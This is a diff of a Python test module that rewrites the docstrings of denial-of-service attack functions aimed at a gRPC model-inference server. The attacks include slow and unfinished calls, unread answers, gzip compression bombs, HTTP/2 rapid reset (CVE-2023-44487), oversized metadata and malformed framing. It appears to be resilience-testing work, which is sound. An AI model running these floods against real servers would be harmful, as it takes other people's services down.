@@ -1,4 +1,4 @@
-"""Calls that are not as calls are: slow, unfinished, reset, late, unread, with headers without bound. And streams."""
+"""Unusual calls: slow, unfinished, reset, late or unread calls, calls with unlimited headers, and streams."""
 
 import contextlib
 import gzip
@@ -38,7 +38,7 @@ def _opened(strike: Strike, stream: int, *more: tuple[str, str], method: str = "
 
 
 def _open_streams(strike: Strike, connection: Http2Connection, count: int, *headers: tuple[str, str]) -> range:
-    """Open streams of ModelStreamInfer, on each of which a valid request is answered."""
+    """Open ModelStreamInfer streams and get one valid answer on each."""
     numbers = range(1, 2 * count, 2)
     for number in numbers:
         connection.send(_opened(strike, number, *headers, method="ModelStreamInfer"), strike.until)
@@ -49,14 +49,14 @@ def _open_streams(strike: Strike, connection: Http2Connection, count: int, *head
 def send_calls(
     strike: Strike, connection: Http2Connection, message: bytes, count: int, *headers: tuple[str, str]
 ) -> None:
-    """Send a message of ModelInfer in many calls, or until it is no longer taken; then note what came back.
+    """Send a ModelInfer message in many calls, or until the server stops accepting it. Then count the answers.
 
     Args:
         strike: The attack.
-        connection: A connection of its own.
-        message: As gRPC frames it.
-        count: How many calls.
-        headers: Of each call, beside those that every call has.
+        connection: A connection for this attack only.
+        message: The message with gRPC's framing.
+        count: Number of calls.
+        headers: Additional headers of each call.
     """
     for stream in range(1, 2 * count, 2):
         connection.send(_opened(strike, stream, *headers), strike.until)
@@ -70,7 +70,7 @@ def send_calls(
 
 @attack(_SLOW)
 def unfinished_messages(strike: Strike) -> None:
-    """15 MB but the last byte on each of 100 streams of 10 connections, a part at a time so that all grow."""
+    """Send 15 MB except the last byte on 100 streams of each of 10 connections, in turns, so that all grow."""
     message = grpc_message(bytes(_LARGE))[:-1]
     with contextlib.ExitStack() as held:
         sent = {}
@@ -89,14 +89,14 @@ def unfinished_messages(strike: Strike) -> None:
 
 @attack(_SLOW)
 def unread_answers(strike: Strike) -> None:
-    """64 requests of 480 kB whose answers are large, on a connection that opens no window for them."""
+    """Send 64 requests of 480 kB with large answers, on a connection that opens no window for them."""
     with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
         send_calls(strike, connection, grpc_message(strike.request(512, 120).SerializeToString()), 64)
 
 
 @attack(_SLOW)
 def unread_answers_on_streams(strike: Strike) -> None:
-    """300 streams with 100 requests each, on a connection that opens no window for their answers."""
+    """Send 100 requests on each of 300 streams, on a connection that opens no window for their answers."""
     with strike.connect((INITIAL_WINDOW_SIZE, 0)) as connection:
         numbers = _open_streams(strike, connection, 300)
         message = grpc_message(strike.request(64, 4).SerializeToString())
@@ -108,7 +108,7 @@ def unread_answers_on_streams(strike: Strike) -> None:
 
 @attack(_SLOW)
 def unfinished_calls(strike: Strike) -> None:
-    """10,000 calls on one connection that send headers and nothing else."""
+    """Open 10,000 calls on one connection that send only headers."""
     with strike.connect() as connection:
         for first in range(1, 20_000, 200):
             opened = b"".join(_opened(strike, stream) for stream in range(first, first + 200, 2))
@@ -119,7 +119,7 @@ def unfinished_calls(strike: Strike) -> None:
 
 @attack("compression bombs")
 def bombs_on_open_streams(strike: Strike) -> None:
-    """300 streams that have been answered, and then at once on each 15 MB of zeros, compressed to 15 kB."""
+    """Get an answer on each of 300 streams, and then send 15 MB of zeros, compressed to 15 kB, on all at once."""
     bomb = grpc_message(gzip.compress(strike.zeros()), flag=1)
     with strike.connect() as connection:
         numbers = _open_streams(strike, connection, 300, ("grpc-encoding", "gzip"))
@@ -132,7 +132,7 @@ def bombs_on_open_streams(strike: Strike) -> None:
 
 @attack(_STORMS)
 def rapid_reset(strike: Strike) -> None:
-    """Calls, each reset as soon as it is made, without end (CVE-2023-44487)."""
+    """Open calls and reset each at once, endlessly (CVE-2023-44487)."""
     data = grpc_message(strike.valid)
     with strike.connect() as connection:
         for stream in itertools.count(1, 2):
@@ -144,7 +144,7 @@ def rapid_reset(strike: Strike) -> None:
 
 @attack(_STORMS)
 def other_methods(strike: Strike) -> None:
-    """Statistics, metadata, config and index, 512 in flight."""
+    """Call statistics, metadata, config and index, with 512 calls in flight."""
     for method in itertools.cycle(("ModelStatistics", "ModelMetadata", "ModelConfig", "RepositoryIndex")):
         if not strike.left():
             return
@@ -154,7 +154,7 @@ def other_methods(strike: Strike) -> None:
 
 @attack(_HEADERS)
 def huge_metadata(strike: Strike) -> None:
-    """Metadata of 16 kB, of 1 MB and of 1,000 keys."""
+    """Send metadata of 16 kB, of 1 MB, and of 1,000 keys."""
     values = [literal("x-key", "y" * 16_000), b"".join(literal(f"x-{n}", "y") for n in range(1_000))]
     with strike.connect() as connection:
         for stream, more in zip(range(1, 80, 2), itertools.cycle(values), strict=False):
@@ -168,7 +168,7 @@ def huge_metadata(strike: Strike) -> None:
 
 
 def _call_each(strike: Strike, calls: list[bytes]) -> None:
-    """Send calls on a connection each, as far as there is time."""
+    """Send each call on a separate connection until the time is over."""
     for call in itertools.takewhile(lambda _: strike.left(), calls):
         with strike.connect() as connection:
             connection.send(call, strike.until)
@@ -177,7 +177,7 @@ def _call_each(strike: Strike, calls: list[bytes]) -> None:
 
 @attack(_FRAMING)
 def sizes_of_messages(strike: Strike) -> None:
-    """A message that says 4 GB, one of none, two in a unary call, the flag of compression without an encoding."""
+    """Wrong framing: a size of 4 GB, no message, two messages in a unary call, a compressed flag without encoding."""
     valid = strike.valid
     messages = [
         grpc_message(valid, 2**32 - 1), grpc_message(valid, len(valid) + 1), grpc_message(valid, 0), b"", b"\0\0",
